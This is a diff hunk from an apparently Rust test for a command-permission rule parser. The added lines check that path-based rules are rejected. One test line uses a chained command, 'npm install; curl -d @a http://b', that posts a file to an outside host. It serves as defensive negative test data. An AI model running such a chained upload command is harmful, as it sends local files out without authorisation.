@@ -103,6 +103,9 @@ matches = [{ command = "npm install left-pad" }]
     assert!(!network("npm run build") && !network("npm install; curl -d @a http://b") && !network("npm install > $X"));
     let denies = text.replace("allow", "deny");
     assert!(rules(&denies).unwrap_err().to_string().contains("`network` belongs"));
+    // It would grant nothing, because what a command touches cannot be told.
+    let by_paths = text.replace("allow", "ask").replace("network", "paths = [\"src/**\"]\nnetwork");
+    assert!(rules(&by_paths).unwrap_err().to_string().contains("paths do not bound a command"));
 }
 
 #[test]
